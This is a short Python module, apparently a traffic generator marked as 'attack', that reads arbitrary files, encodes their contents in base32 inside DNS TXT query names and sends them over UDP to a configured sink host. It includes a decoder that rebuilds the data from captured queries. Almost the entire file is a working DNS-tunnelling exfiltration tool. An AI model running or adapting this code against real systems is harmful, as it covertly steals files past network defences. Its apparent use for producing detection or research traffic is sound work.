# SPDX-License-Identifier: GPL-3.0-or-later
"""Questions for names, as to a resolver: 150 bytes of content in the labels of each."""
import base64
import random
import socket
import struct
import time

KIND = "attack"
PIECE = 150  # bytes, which are 240 letters


def question(number, piece):
    letters = base64.b32encode(piece).rstrip(b"=").lower()
    labels = [letters[at:at + 60] for at in range(0, len(letters), 60)]
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return struct.pack(">6H", number & 0xffff, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1)


def restore(data):
    out, at = [], 0
    while at + 12 < len(data):
        at, letters = at + 12, b""
        while at < len(data) and data[at]:
            letters += data[at + 1:at + 1 + data[at]]
            at += 1 + data[at]
        at += 5
        out.append(base64.b32decode(letters.upper() + b"=" * (-len(letters) % 8)))
    return b"".join(out)


def product(world):
    rng = random.Random(world["seed"])
    content = b"".join(open(path, "rb").read() for path in world["files"])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(tuple(rng.choice(world["sinks"])))
        for number, at in enumerate(range(0, len(content), PIECE)):
            sock.send(question(number, content[at:at + PIECE]))
            time.sleep(0.0005)
